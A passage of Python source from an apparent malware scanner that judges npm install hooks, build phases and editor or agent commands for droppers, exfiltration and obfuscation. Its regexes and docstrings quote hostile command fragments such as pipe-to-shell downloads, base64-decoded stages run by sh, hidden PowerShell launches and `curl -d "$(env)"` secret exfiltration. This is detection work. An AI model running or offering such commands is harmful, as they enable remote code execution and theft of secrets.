            key = (finding.rule, finding.file, finding.line) if finding.file != "package.json" else None
            if key is None or key not in seen:
                seen.add(key)
                yield finding
    yield from _bin_traversal(artifact.manifest, artifact.files)
    yield from _developer_run(artifact.manifest, artifact.files)
    yield from _script_phases(artifact.manifest, artifact.files)
    for line, key, command in npmrc_commands(artifact.files):
        yield Finding("install-script/npmrc-program", Severity.HIGH, Confidence.HIGH, "install-script",
                      f"The package's .npmrc makes npm run {command.removeprefix('node ')} in place of `{key}`: it "
                      "runs when the package is installed from git or worked on in its directory, even with "
                      "--ignore-scripts.", ".npmrc", line, f"{key}={command}"[:200], {"setting": key})


def _developer_run(manifest, files) -> Iterator[Finding]:
    """What only an attack does in a script a developer runs (`"pretest": "sh scripts/check-env.sh"` that pipes a
    download to a shell, sends the environment): one step lower than at install, since installing the package does not
    run it. Lesser patterns there are a project's own tooling (`npm install -g chomp`, `node -e` build steps)."""
    scripts = manifest.get("scripts") if isinstance(manifest.get("scripts"), dict) else {}
    text = files.get("package.json", b"").decode("utf-8", "replace")
    seen: set[tuple] = set()
    for hook in DEVELOPER_HOOKS:
        command = scripts.get(hook)
        if not isinstance(command, str) or not command.strip():
            continue
        for finding in _judge(_Script(hook, command.strip(), _line_of_key(text, hook)), files):
            key = (finding.rule, finding.file, finding.line)
            if finding.severity == Severity.CRITICAL and key not in seen:
                seen.add(key)
                yield replace(finding, severity=Severity.HIGH,
                              message=finding.message.replace(" at install time", "") + f" (`npm run {hook}` runs it, "
                              "not an install)", details={**finding.details, "developer_run": True})


def _script_phases(manifest, files) -> Iterator[Finding]:
    """Scripts another program runs by itself, judged line by line like a shell file an install hook runs: a podspec's
    script phases (Xcode runs them at every build of the app: a React Native or Capacitor package's pod is linked into
    the app when it is installed), the build events of an MSBuild project it ships (Visual Studio runs them at every
    build), the shell steps of AI agents' slash commands (the agent runs them when the command is typed; only what no
    command does for its user counts), the commands a Unity package's editor scripts start (the editor runs them
    whenever it loads the project) and the text a VS Code extension's key bindings type into its terminal."""
    phases = [(path, line, script, "podspec script phase", f"script phase of {path} (Xcode runs it at every build of the app)",
               "at build time") for path, line, script in podspec_scripts(files)]
    phases += [(path, line, command, "Unity editor script", f"command an editor script of {path} starts (Unity runs it "
                "whenever the editor loads the project)", "when the Unity editor loads the project")
               for path, line, command in editor_commands(files)]
    text = files.get("package.json", b"").decode("utf-8", "replace") if isinstance(files.get("package.json"), bytes) else ""
    phases += [("package.json", _line_of_key(text, "keybindings") or 1, typed, "VS Code key binding",
                f"text the extension's key binding ({key}) types into the editor's terminal", f"when the user presses {key}")
               for key, typed in terminal_keystrokes(manifest)]
    phases += [(path, line, command, "MSBuild build event", f"build event of {path} (Visual Studio runs it whenever the "
                "project is built)", "when the project is built") for path, line, command in build_events(files)]
    phases += [(path, line, command, AGENT_COMMAND, f"shell step of the slash command {path} (the AI agent runs it "
                "whenever the command is typed)", "when the command is typed") for path, line, command in agent_commands(files)]
    seen: set[tuple] = set()
    for path, line, script, hook, label, when in phases:
        name = f"{path}#script_phase"
        for finding in judge_shell_file("build", name, {name: script.encode("utf-8", "replace")}, label=label):
            if finding.rule in NO_WEIGHT or (key := (finding.rule, path, line + (finding.line or 1))) in seen \
                    or hook == AGENT_COMMAND and not for_no_user(finding.rule, script):
                continue
            seen.add(key)
            yield replace(finding, file=path, line=line + (finding.line or 1) - 1,
                          message=finding.message.replace(" at install time", f" {when}"),
                          details={**finding.details, "hook": hook})


def _bin_traversal(manifest, files) -> Iterator[Finding]:
    bins = manifest.get("bin")
    if not isinstance(bins, dict):
        return
    text = files.get("package.json", b"").decode("utf-8", "replace")
    for name, target in bins.items():
        for part in (name, target):
            if isinstance(part, str) and (part.startswith(("/", "\\")) or re.match(r"^[A-Za-z]:", part)
                                          or ".." in re.split(r"[/\\]", part)):
                yield Finding("install-script/bin-path-traversal", Severity.CRITICAL, Confidence.HIGH, "install-script",
                              f"The `bin` entry {name!r} -> {target!r} points outside node_modules/.bin: installing "
                              "the package links or overwrites a file elsewhere in the project or the home directory.",
                              "package.json", _line_of_key(text, name),
                              f"{name}: {target}"[:200], {"bin": name})
                return


def _lifecycle_scripts(manifest, files) -> Iterator[_Script]:
    scripts = manifest.get("scripts") if isinstance(manifest.get("scripts"), dict) else {}
    text = files.get("package.json", b"").decode("utf-8", "replace")
    for hook in INSTALL_HOOKS:
        command = scripts.get(hook)
        if isinstance(command, str) and command.strip():
            yield _Script(hook, command.strip(), _line_of_key(text, hook))
    if "binding.gyp" in files and not any(isinstance(scripts.get(h), str) for h in ("preinstall", "install")):
        yield _Script("install", "node-gyp rebuild", None, implicit=True)
    for line, command in gyp_commands(files):
        yield _Script("install", command, line, implicit=True, file="binding.gyp")
    for line, key, command in npmrc_commands(files):
        yield _Script("install", command, line, file=".npmrc",
                      label=f"program the package's .npmrc puts in place of `{key}`")


NPMRC_PROGRAMS = re.compile(r"^\s*(git|script-shell|shell|node-options)\s*=\s*(.+?)\s*$", re.M)
"""Settings of a .npmrc that name a program npm runs: git (for git dependencies), the shell of every script, the
options of every Node it starts."""
NODE_PRELOAD = re.compile(r"(?:--require|-r|--import)[\s=]+[\"']?([^\s\"']+)")


def npmrc_commands(files: Mapping[str, bytes]) -> list[tuple[int, str, str]]:
    """(line, setting, command) for each program the package's own .npmrc makes npm run from the package's files
    (`git=./scripts/git-lfs-check.sh`, `node-options=--require ./hook.js`): a git dependency's checkout brings it, and
    npm reads it when it prepares the dependency, with or without install scripts."""
    data = files.get(".npmrc")
    if not isinstance(data, bytes):
        return []
    text = data[:64_000].decode("utf-8", "replace")
    found = []
    for match in NPMRC_PROGRAMS.finditer(text):
        key, value = match.group(1), match.group(2).strip("\"'")
        line = text.count("\n", 0, match.start()) + 1
        targets = NODE_PRELOAD.findall(value) if key == "node-options" else [value.split()[0]] if value else []
        for target in targets:
            path = posixpath.normpath(target.replace("\\", "/"))
            if path in files and not path.startswith(".."):
                found.append((line, key, f"node {path}" if key == "node-options" else path))
    return found


def gyp_commands(files: Mapping[str, bytes]) -> list[tuple[int, str]]:
    """(line, command) of each `<!(...)` / `<!@(...)` command expansion of the package's binding.gyp, which node-gyp
    runs when it configures the addon at install, and of each build action (`"action": ["sh", "scripts/x.sh", …]`),
    which make runs when it builds the addon, at install too."""
    if "binding.gyp" not in files:
        return []
    gyp = files["binding.gyp"][:1_000_000].decode("utf-8", "replace")
    found = [(gyp.count("\n", 0, start) + 1, command) for start, command in _gyp_commands(gyp)]
    for words in _gyp_actions(gyp) if "action" in gyp else ():
        at = re.search(r"""['"]action['"]\s*:\s*\[\s*['"]""" + re.escape(words[0]), gyp)
        found.append((gyp.count("\n", 0, at.start()) + 1 if at else None,
                      " ".join(f'"{w}"' if " " in w else w for w in words)))
    return found


def _gyp_actions(gyp: str) -> Iterator[list[str]]:
    """The command of each action (and postbuild) of a binding.gyp, a Python literal (read as a literal, nothing of it
    evaluated): a list of words under an `action` key."""
    try:
        tree = ast.literal_eval(gyp)
    except (ValueError, SyntaxError, TypeError, MemoryError, RecursionError):
        return
    stack = [tree]
    while stack:
        node = stack.pop()
        if isinstance(node, dict):
            action = node.get("action")
            if isinstance(action, list) and action and all(isinstance(w, str) for w in action):
                yield action
            stack.extend(node.values())
        elif isinstance(node, list):
            stack.extend(node)


def _gyp_commands(gyp: str) -> Iterator[tuple[int, str]]:
    """(offset, command) of each command expansion, up to the parenthesis that closes it (commands
    hold parentheses and quotes: `node -p "require('x').include"`)."""
    start = gyp.find(GYP_EXPANSION)
    while start != -1:
        open_at = gyp.find("(", start, start + 4)
        if open_at != -1:
            depth, quote, i = 0, None, open_at
            while i < len(gyp) and i - open_at < 4000:
                c = gyp[i]
                if quote:
                    if c == quote:
                        quote = None
                elif c in "\"'" and gyp[i - 1] != "\\":
                    quote = c
                elif c == "(":
                    depth += 1
                elif c == ")":
                    depth -= 1
                    if depth == 0:
                        # binding.gyp is a Python literal: `\'` and `\"` are quotes of the command.
                        yield start, gyp[open_at + 1:i].replace("\\'", "'").replace('\\"', '"').strip()
                        break
                elif c == "\n" and gyp[i - 1] in "'\"":
                    break
                i += 1
        start = gyp.find(GYP_EXPANSION, start + 2)


def _line_of_key(text: str, key: str) -> int | None:
    match = re.search(r'"%s"\s*:' % re.escape(key), text)
    return text.count("\n", 0, match.start()) + 1 if match else None


def _judge(script: _Script, files) -> Iterator[Finding]:
    command = script.command
    where = script.label or (f"`{script.hook}` script" if script.file == "package.json"
                             else "binding.gyp command (an expansion or build action, run by node-gyp at install)" if script.file == "binding.gyp"
                             else f"{script.file} (run by the `{script.hook}` script)")
    # `prepare` does not run when a package is installed from a registry: same patterns, less weight.
    registry_install = script.hook != "prepare"

    def finding(rule: str, severity: Severity, confidence: Confidence, category: str, message: str, **details) -> Finding:
        if not registry_install and severity > Severity.LOW:
            severity = Severity(severity - 1)
            message += " (`prepare` runs only for git and local installs)"
        return Finding(
            rule=f"install-script/{rule}", severity=severity, confidence=confidence, category=category,
            message=message, file=script.file, line=script.line, snippet=_snippet(f"{script.hook}: {command}"),
            details={"hook": script.hook, "command": command, **details},
        )

    benign = _recognise(command)
    risky = inline = False
    urls = URL.findall(command)
    # (inline code that downloads counts: `perl -MHTTP::Tiny -e 'print …->get(u)->{content}' | sh`)
    fetches = FETCH.search(command) or SOCKET_FETCH.search(command) or (INLINE_CODE.search(command) and SCRIPT_FETCH.search(command))
    if fetches and PIPE_TO_SHELL.search(command) or runs_from_url(command):
        risky = True
        yield finding("fetch-and-execute", Severity.CRITICAL, Confidence.HIGH, "dropper",
                      f"The {where} downloads code and runs it.", urls=urls)
    elif FETCH.search(command) and urls:
        risky = True
        yield finding("downloads", Severity.HIGH, Confidence.MEDIUM, "dropper",
                      f"The {where} downloads from {urls[0]} at install time.", urls=urls)
    if INLINE_CODE.search(command) and not (script.file == "binding.gyp" and REQUIRE_ONLY.match(command)):
        # (harmless inline code beside a script file, `scripts\install.cmd || node -e "0"`, does not stop the file
        # from being judged)
        inline = True
        # (inline code is judged with the code it decodes: `exec(base64.b64decode('…'))` runs what the base64 holds)
        judged = _with_decoded(command)
        found, dangerous = _inline_code(command, judged, where, finding)
        risky = risky or dangerous
        yield from found
    else:
        judged = command
    for rule, pattern, group, severity, confidence, category, message in COMMAND_RULES:
        match = pattern.search(judged)
        if match:
            risky = True
            yield finding(rule, severity, confidence, category,
                          message.format(where=where, match=" ".join(match.group(group).split())[:200]))
    dropped = download_then_run(command)
    if dropped is not None:
        risky = True
        yield finding("download-execute", Severity.CRITICAL, Confidence.HIGH, "dropper",
                      f"The {where} downloads {dropped} and then runs it.")
    yield from _judge_decoded(script, where)
    for match in WRITES_TO.finditer(command):
        target = match.group("target")
        if P.TRUSTED_CONFIG.search(target) or P.PERSISTENCE_PATHS.search(target):
            risky = True
            yield finding("tamper", Severity.HIGH, Confidence.HIGH, "persistence",
                          f"The {where} writes to {target}, a file other programs trust or run (the hosts file, "
                          "package-manager config, shell start-up files, scheduled jobs).", target=target)
            break
    if sends_loot(command):
        # The environment or a credential file in the body of the same command: `curl -d "$(env | base64)" …`.
        yield finding("sends-secrets", Severity.CRITICAL, Confidence.HIGH, "exfiltration",
                      f"The {where} sends the environment or a credential file to the network.")
    if WHO.search(command) and (NETWORK_TOOL.search(command) or FETCH.search(command) or PY_NETWORK.search(command)):
        # The user and host name sent out by the same command: the dependency-confusion beacon.
        yield finding("beacon", Severity.CRITICAL, Confidence.HIGH, "recon",
                      f"The {where} sends the user or host name to the network: an install-time beacon.")
    runs = files_run_by(command)
    made = makefiles_run_by(command, files) if "make" in command else []
    runs += [path for path in made if path not in runs]
    if risky or (inline and not runs):
        return  # (inline code alone is what the hook runs: reported above)
    if benign:
        yield finding("recognised", Severity.INFO, Confidence.HIGH, "install-script",
                      f"The {where} is a common legitimate one: {benign}.", recognised=benign)
    elif runs:
        for path in runs:
            present = path in files
            yield finding("runs-file", Severity.LOW, Confidence.HIGH, "install-script",
                          f"The {where} runs {path} at install time"
                          + ("; its code is analysed as install-time code." if present else ", which is not in the package."),
                          runs=path, present=present)
            if present:
                yield from _judge_run_file(script, path, files, made=path in made)
    elif script.implicit:
        tool = "a build helper's path (node-addon-api/nan idiom)" if REQUIRE_ONLY.match(command) else "node-gyp"
        yield finding("recognised", Severity.INFO, Confidence.HIGH, "install-script",
                      f"The {where} runs `{command}`.", recognised=tool)
    else:
        yield finding("present", Severity.LOW, Confidence.HIGH, "install-script",
                      f"The {where} runs `{_snippet(command, 80)}` at install time.")


def _judge_run_file(script: _Script, path: str, files, made: bool) -> Iterator[Finding]:
    """The package file a hook's command runs, judged by its language: a shell or batch script line by line (node-gyp
    runs binding.gyp's `<!(sh build-aux/config.sh)` at install, as npm runs a hook), a makefile by the shell lines of
    its recipes, a Python, Perl or Ruby script by its lines."""
    if path.endswith(SHELL_SCRIPTS) and script.file in ("package.json", "binding.gyp", ".npmrc"):
        yield from judge_shell_file(script.hook, path, files)
    elif path.endswith(INTERPRETED) and script.file == "package.json":
        yield from judge_interpreted_file(script.hook, path, files)
    elif made:
        recipes = make_recipes(files[path][:200_000].decode("utf-8", "replace"))
        yield from judge_shell_file(script.hook, path, {**files, path: recipes.encode()})


SHELL_SCRIPTS = (".sh", ".bash", ".bat", ".cmd", ".ps1")
INTERPRETED = (".py", ".pl", ".rb")
"""Scripts of other languages a hook runs (`python3 scripts/compat.py`): not parsed, their lines read for the
download-and-run cradle and raw IP addresses."""
SCRIPT_FETCH = linear_re.compile(r"\b(urlopen|urlretrieve|requests\.(get|post)|http\.client|LWP::|Net::HTTP|HTTP::Tiny|URI\.open|open-uri)\b|"
                                 r"\bfetch\s*\(\s*['\"`]https?:|\bhttps?\.get\s*\(\s*['\"`]https?:|"
                                 r"\brequire\(\s*['\"](?:node:)?https?['\"]\s*\)\.(?:get|request)\s*\(\s*['\"`]https?:")
"""Python's, Perl's and Ruby's HTTP reads, and Node's of a URL it spells (`node -e "fetch('https://…')"`,
`require('https').get('https://…')`)."""
SCRIPT_EVAL = linear_re.compile(r"\b(exec|eval)\s*\(|\bIO\.popen\b|\bopen\s*\(\s*\w+\s*,\s*[\"']\|")
"""Code handed to an interpreter by the script's own language: Python's exec/eval, Ruby's IO.popen, Perl's
`open(F, "| sh")`."""
SCRIPT_STDIN = linear_re.compile(r"\bstdin\s*=\s*(subprocess\.)?PIPE\b|\binput\s*=")
SCRIPT_SHELL = linear_re.compile(r"[\"'](/bin/|/usr/bin/)?((ba|z|da)?sh|powershell(\.exe)?|pwsh|cmd(\.exe)?)[\"']")
"""A shell started to read its script from a pipe (`Popen(["/bin/sh", "-s"], stdin=PIPE)`, then `communicate(script)`)."""
SHELL_ASSIGN = re.compile(r"^(?:export\s+|set\s+|\$)?([A-Za-z_]\w*)=")
"""`NAME=value`, `export NAME=…`, `set NAME=…` (batch), `$NAME = …` (PowerShell)."""
SHELL_FOR = re.compile(r"^for\s+([A-Za-z_]\w*)\s+in\s+(.+?)(?:;\s*do\b.*)?$")
"""`for NAME in LIST; do`: the loop variable and the words it takes in turn."""
SHELL_CONSTANT = re.compile(r"""^(?:export\s+|set\s+"?|\$)?([A-Za-z_]\w*)\s?=\s?["']?([^\s"'$`;&|]+)["']?\s*$""")
"""A variable set to one plain word (a path, a URL; batch `%VAR%` parts kept): no command substitution."""
SHELL_PRINTF = re.compile(r"""^([A-Za-z_]\w*)=["']?\$\(printf\s+'((?:\\[0-7]{1,3}|\\x[0-9a-fA-F]{1,2}|[^'\\%])*)'\)["']?\s*$""")
"""`u=$(printf '\150\164\164\160…')`: a value spelled in octal (or hex) escapes to keep a URL out of the script."""
PACKAGE_FETCH = re.compile(r"\b(npm|pnpm|yarn)\s+pack\s+['\"]?[@\w]")
"""`npm pack <spec>`: another package's tarball downloaded (with no spec it packs the project itself)."""
BACKGROUND = re.compile(r"^\s*\(?\s*(nohup|setsid)\b|&\s*\)?\s*$|\bdisown\b|^\s*start\s+(\"\"\s+)?/b\s", re.I)
"""A command left running after the script (or the code that runs it) ends: nohup, setsid, a trailing `&`, `disown`,
Windows' `start /b`."""
SHELL_WRAPPER = re.compile(r"""^(?:\(\s*|nohup\s+|setsid\s+|exec\s+|(?:ba|z)?sh\s+-c\s+["']?|then\s+|"""
                           r"""if\s*\((?:[^{}()]|\$\{\*\}|\([^{}()]{0,200}\)){0,200}\)\s*\{\s*)""")
"""What a saved download is run through: `( nohup sh -c "sh '$d'" & )` runs `$d`; so does the branch of a check that it
arrived (`if [ -f "$d" ]; then sh "$d"; fi`, PowerShell's `if (Test-Path $d) { Start-Process $d }`)."""
QUOTED_JOIN = re.compile(r"""(['"])\s*\+\s*\1""")
"""`('Am' + 'si' + 'Scan' + 'Buffer')`: a PowerShell name split into joined quoted parts, read whole."""
REDIRECT_TO_VARIABLE = re.compile(r"""(?<![0-9&])>>?\s*["']?\$\{?([A-Za-z_]\w*)""")
"""Output written to the file a variable names (`> "$M"`, `>> ${OUT}`; not `2>`, `&>`)."""
REDIRECT_TO_PATH = re.compile(r"""(?<![0-9&])>>?\s*(?:"([^"$]{4,200})"|([^\s"'$&|;<>()]{4,200}))""")
"""Output written to a file named by a path (`set > "%TEMP%\\e.txt"`, `>> /tmp/.x`; batch variables are already
expanded to their constant)."""
BLOCK_END = re.compile(r"^\s*(?:\}|\)|done\b)")
"""The end of a `{ … }` group, a subshell or a loop, whose redirection takes everything inside."""
SHELL_USE = re.compile(r"\$(?P<name>[A-Za-z_]\w*)|\$\{(?P<braced>[A-Za-z_]\w*)\}|%(?P<batch>[A-Za-z_]\w*)%")
NEVER_FOR_A_CALLER = re.compile(SCAN_HOOKS + "|" + DOWNLOAD_CHECKS + "|" + PROC_HIDING + "|" + RECOVERY_OFF, re.I)


def never_for_a_caller(finding: Finding) -> bool:
    """What no function of a library does for its caller: Windows' script scanning or event tracing patched out
    of memory, a process hidden from ps under a mount over its /proc entry, the system's recovery removed (shadow copies,
    boot recovery, Time Machine snapshots), code run from a registry value, a miner
    started, a kernel driver loaded, the checks of downloaded programs turned off system-wide, the credential stores dumped, a Windows
    script host made to run code straight from the network (mshta, regsvr32 /i:URL: proxy execution), another user's
    Remote Desktop session taken over, the machine registered as a CI runner of some repository, a DLL handed to the
    Windows Update client or injected into a running process with mavinject, the organisation's mailboxes delegated,
    a print spooler port monitor registered, a download-and-run
    hidden in base64 inside inline code, the environment or a
    credential file sent away (`curl -d "$(env)"`: Codecov's uploader, 2021). (A Defender exclusion is
    advice build tools print, and run when asked.) Commands
    that code runs in a function the application calls keep these at full weight."""
    return finding.rule.endswith(("/credential-dump", "/remote-script", "/registry-code", "/crypto-miner", "/kernel-driver",
                                  "/session-hijack", "/sends-secrets", "/ci-runner", "/update-client-dll",
                                  "/dll-injection", "/mailbox-grant", "/port-monitor")) or finding.details.get("hidden") is True or (
        finding.rule.endswith("/defence-off") and NEVER_FOR_A_CALLER.search(str(finding.details.get("command", ""))) is not None)


# Where a download is saved, and what runs a saved file.
SAVED_AS = linear_re.compile(r"\s(?:-[A-Za-z]*o|-O|--output(?:-document)?|-OutFile|-Destination)\s+['\"]?(?P<file>[\w./%$~\\:-]+)|"
                      r"DownloadFile\([^,]+,\s*['\"](?P<file2>[^'\"]+)|"
                      r"certutil[^\n&;|]*-urlcache[^\n&;|]*\s(?P<file3>[\w./\\:-]+)\s*(?:$|[&;|])", ignore_case=True)
DOWNLOAD_REDIRECT = re.compile(r"""(?<![0-9&])>\s*['"]?([\w./%$~\\-]+)""")
EXECUTES = linear_re.compile(r"^(?:\./|\.\\|start\s+(?:/\w+\s+)*|regsvr32(?:\.exe)?\s+(?:/\w+\s+|-\w+\s+)*|rundll32(?:\.exe)?\s+|"
                      r"(?:ba|z)?sh\s+|chmod\s+\+?[0-7x]+\s+|nohup\s+|cmd(?:\.exe)?\s+/c\s+|"
                      # (PowerShell started on a script file: `Start-Process powershell -WindowStyle Hidden -ArgumentList
                      # '-NoProfile','-File',"$d\i.ps1"`)
                      r"Start-Process\s+['\"]?(?:powershell|pwsh)(?:\.exe)?['\"]?\s+(?:-(?:WindowStyle\s+\w+|NoNewWindow|Wait|PassThru)\s+)*"
                      r"-ArgumentList\s+(?:['\"][^'\",;]*['\"]\s*,\s*)*?['\"]-f(?:ile)?['\"]\s*,\s*|"
                      # (PowerShell's `Start-Process -WindowStyle Hidden -FilePath x`, `& x`)
                      r"Start-Process\s+(?:-(?:WindowStyle\s+\w+|NoNewWindow|Wait|PassThru)\s+)*(?:-FilePath\s+)?|&\s+|"
                      # (PowerShell running a script file: `powershell -w hidden -ep bypass -f x.ps1`)
                      r"(?:powershell|pwsh)(?:\.exe)?\s+(?:-(?:w|windowstyle|ep|exec|executionpolicy|nop|noprofile|noni|"
                      r"noninteractive|nologo|sta|mta)\b(?:\s+(?:hidden|minimized|normal|bypass|unrestricted|remotesigned))?\s+)*"
                      r"-f(?:ile)?\s+|"
                      # (a program run by its absolute path, `/tmp/x.bin >/dev/null`: the directories are no part of its name)
                      r"(?:/[\w.-]+)+/)['\"]?(?P<file>[\w./\\$:-]+)", ignore_case=True)


NO_WEIGHT = frozenset({"install-script/present", "install-script/recognised", "install-script/runs-file"})
"""What a hook's judging says that carries no weight where a command is judged as part of something else (run from
code, a line of a shell file, a decoded stage)."""
ECHOED_BASE64 = re.compile(r"\b(?:echo\s+(?:-n\s+)?|printf\s+(?:['\"]?%s['\"]?\s+)?)['\"]?([A-Za-z0-9+/]{24,}={0,2})['\"]?\s*\|\s*"
                           r"base64\s+(?:-d|--decode|-D)\b")
"""`echo <base64> | base64 -d | sh` (or `printf '%s' <base64> | …`): the script a command carries encoded, which it decodes
and runs."""
GUNZIP = re.compile(r"\s*\|\s*(?:gunzip|gzip\s+-d[cf]*|zcat)\b")
POWERSHELL_ENCODED = re.compile(r"\b(?:powershell|pwsh)(?:\.exe)?\b[^|;&\n]*[\s'\"]-e(?:nc(?:odedcommand)?)?['\"]?(?:\s*,\s*|\s+)['\"]?"
                                r"([A-Za-z0-9+/]{24,}={0,2})", re.I)
"""`powershell -enc <base64>`: a script PowerShell decodes from UTF-16LE base64 and runs; also as the quoted argument
list of `Start-Process powershell.exe -ArgumentList '-NoP','-EncodedCommand','JAB…'`."""


POWERSHELL_GZIP = re.compile(r"""FromBase64String\(\s*['"](H4sI[A-Za-z0-9+/]{40,}={0,2})['"]\s*\)""")
"""`[IO.Compression.GzipStream]::new([IO.MemoryStream]::new([Convert]::FromBase64String('H4sI…')))`: a script PowerShell
keeps gzipped in base64, read out and run (a winget configuration's TestScript, blind set 49)."""


def encoded_script(text: str) -> tuple[re.Match, str | None] | None:
    """The first `echo <base64> | base64 -d`, `powershell -enc <base64>` (UTF-16LE) or PowerShell's gzipped base64 of
    `text`, with the script it decodes to (None when that is not text)."""
    match = ECHOED_BASE64.search(text) or POWERSHELL_ENCODED.search(text) or POWERSHELL_GZIP.search(text)
    if match is None:
        return None
    if match.re is POWERSHELL_GZIP or (match.re is ECHOED_BASE64 and GUNZIP.match(text, match.end())):
        return match, decode_b64_gzip(match.group(1))  # (`echo H4sI… | base64 -d | gunzip | sh`)
    return match, (decode_utf16_b64 if match.re is POWERSHELL_ENCODED else decode_b64)(match.group(1))


def _judge_decoded(script: _Script, where: str) -> Iterator[Finding]:
    """Each line of the script `echo <base64> | base64 -d | sh` or `powershell -enc <base64>` carries, judged as the
    command's own (once: what it decodes is not decoded again). Blind set 14's WSL stage tarred ~/.ssh into a curl body inside one."""
    if script.label.endswith(("(in the base64 it decodes)", "(in the hex it decodes)")):
        return
    carried = encoded_script(script.command)
    if carried is not None:
        decoded, encoding = carried[1], "base64"
    else:  # (`printf '%s' '2321…' | xxd -r -p | sh`: the same script in hex)
        decoded, encoding = echoed_script(script.command), "hex"
    if decoded is None:
        return
    label = f"{where} (in the {encoding} it decodes)"
    lines = [line for _, line in _logical_lines(decoded[:20_000], joins=True)]
    dropped = False
    for line in lines:
        for finding in _judge(_Script(script.hook, line, script.line, file=script.file, label=label), {}):
            if finding.rule not in NO_WEIGHT:
                dropped = dropped or finding.rule == "install-script/download-execute"
                yield finding
    if not dropped and len(lines) > 1:
        # (a decoded script saves a download on one line and runs it on a later one: `Invoke-WebRequest … -OutFile
        # "$d\install.ps1"`, then `& "$d\install.ps1"`: the lines judged as one command, for that step only)
        whole = _Script(script.hook, "; ".join(lines), script.line, file=script.file, label=label)
        yield from (f for f in _judge(whole, {}) if f.rule == "install-script/download-execute")


def judge_command(command: str, hook: str, file: str, line: int | None, label: str) -> Iterator[Finding]:
    """A command that code runs (`exec('curl … | sh')`), judged like a hook's command; only the
    findings that carry weight (not "runs a file"/"recognised")."""
    for finding in _judge(_Script(hook, command, line, file=file, label=label), {}):
        if finding.rule not in NO_WEIGHT:
            yield finding


RUNS_REMOTE = {"install-script/fetch-and-execute", "install-script/download-execute", "install-script/remote-script",
               "install-script/encoded-command", "install-script/reverse-shell"}
DOWNLOADS_AND_RUNS = {"install-script/fetch-and-execute", "install-script/download-execute", "install-script/remote-script"}
NO_TOOL_DOES = {"install-script/fetch-and-execute": "downloads code and runs it",
                "install-script/download-execute": "downloads a file and runs it",
                "install-script/remote-script": "runs a script from the network",
                "install-script/encoded-command": "runs an encoded command",
                "install-script/reverse-shell": "connects a shell to a remote host",
                "install-script/sends-secrets": "sends the environment or a credential file away",
                "install-script/beacon": "sends the user or host name to the network"}
"""What no script a tool writes for its user does (download and run code, run encoded code, open a shell to another
machine, send secrets or report who the user is), by the hook judge's rule."""


def sends_loot(command: str) -> bool:
    """The environment or a credential file in the body of a command that sends: `curl -d "$(env | base64)" …`."""
    return LOOT.search(command) is not None and SENDS.search(command) is not None


def runs_remote_code(command: str) -> bool:
    """Whether a command line downloads and runs code, runs encoded code or opens a reverse shell:
    what a page asks the user to paste (ClickFix) or an editor task runs is judged by this."""
    return (FETCH.search(command) or ENCODED.search(command) or SCRIPT_HOST.search(command) or REVERSE_SHELL.search(command)
            or (INLINE_CODE.search(command) and SCRIPT_FETCH.search(command))) \
        is not None and _judged_as(command, RUNS_REMOTE)  # (the last: `python -c "…exec(urlopen(u).read())"`)


OUT_OF_SIGHT = re.compile(r"(?:>\s*/dev/null\s+2>&1|&>\s*/dev/null)\s*&(?!&)")
"""A command run in the background with everything it prints thrown away (`curl … | zsh >/dev/null 2>&1 &`): a bin that
downloads and runs code that way does it out of its user's sight, which no installer a user asked for does (BlueNoroff's
fake Zoom SDK update, an AppleScript a 'doctor' command starts, 2024)."""
FOR_NO_USER = frozenset({"install-script/sends-secrets", "install-script/reverse-shell"})
"""What no command does for the user who types it: a script that sends the environment or a credential file away, or
opens a shell to a remote host (Codecov's bash uploader, 2021, added one `curl` of `$(env)` to its real work). A
command's other lines (downloads, a boot service) are what CLIs are asked to do."""
AGENT_COMMAND = "AI agent slash command"


def for_no_user(rule: str, command: str) -> bool:
    """What a script a user's command runs does for no user (`rule`, a hook rule's id): see FOR_NO_USER and
    OUT_OF_SIGHT."""
    return rule in FOR_NO_USER or out_of_sight(rule, command)


def out_of_sight(rule: str, command: str) -> bool:
    """A download that runs (`rule`, a hook rule's id) in a command run in the background with all it prints thrown away:
    what no installer a user asked for does (see OUT_OF_SIGHT)."""
    return rule in RUNS_REMOTE and OUT_OF_SIGHT.search(command) is not None


HIDDEN_URL = re.compile(r"\$\(\s*echo\s+['\"]?[A-Za-z0-9+/=]{16,}['\"]?\s*\|\s*base64\s+(-d|--decode|-D)\b")
"""A URL a command line decodes from base64 as it runs (`curl -fsSL $(echo aHR0c… | base64 -d)`): kept from its reader."""


def downloads_and_runs(command: str) -> bool:
    """Whether a command line fetches code from the network and runs it (a download cradle): what a command sent to
    other machines must do to spread a payload (decoding a local argument, as Android tooling does, is not that)."""
    return (FETCH.search(command) or SCRIPT_HOST.search(command)) is not None and _judged_as(command, DOWNLOADS_AND_RUNS)


def _judged_as(command: str, rules: set[str]) -> bool:
    """Whether judging the command as a hook reports one of `rules` (callers test the rules' first patterns before:
    judging every string of a file in full would cost)."""
    return any(f.rule in rules for f in _judge(_Script("", command, None, file=""), {}))


def judge_shell_file(hook: str, path: str, files, seen: set[str] | None = None, label: str = "") -> Iterator[Finding]:
    """Each command line of a shell/batch script run at install time, judged like a hook; a file the script
    downloads and then runs, the dropper's two steps across lines; a sweep of credential stores it sends; and the
    package's scripts it runs in turn (`start /b powershell -File "%~dp0telemetry.ps1"`), judged alike. `label`: how
    the messages name the script when it is not a file a hook runs (a podspec's script phase)."""
    seen = seen if seen is not None else {path}
    text = files[path][:200_000].decode("utf-8", "replace")
    found = list(_judge_shell_lines(hook, path, files, text, label))
    for number, command in _reversed_commands(text):
        found += judge_command(command, hook, path, number, f"{path} (run by the `{hook}` script; the command it reverses)")
    yield from found
    if not any(f.rule == "install-script/sends-secrets" for f in found):
        yield from credential_sweep(hook, path, text)
    for ran in _scripts_run(path, text, files):
        if ran not in seen:
            seen.add(ran)
            yield from judge_shell_file(hook, ran, files, seen)


QUOTED_ASSIGN = re.compile(r"""^\s*([A-Za-z_]\w*)=(['"])(.{8,4000}?)\2\s*$""", re.M)
REVERSED_USE = re.compile(r"""\$\{?([A-Za-z_]\w*)\}?["']?\s*\|\s*rev\b""")


def _reversed_commands(text: str) -> list[tuple[int, str]]:
    """(line, command) for a variable's quoted text run reversed (`_b='hs | … lruc'`, then `eval "$(printf '%s' "$_b" |
    rev)"`): the command the script spells backwards to keep it out of a reader's sight."""
    if "rev" not in text:
        return []
    quoted = {m.group(1): m.group(3) for m in QUOTED_ASSIGN.finditer(text)}
    return [(text.count("\n", 0, m.start()) + 1, quoted[m.group(1)][::-1])
            for m in REVERSED_USE.finditer(text) if m.group(1) in quoted]


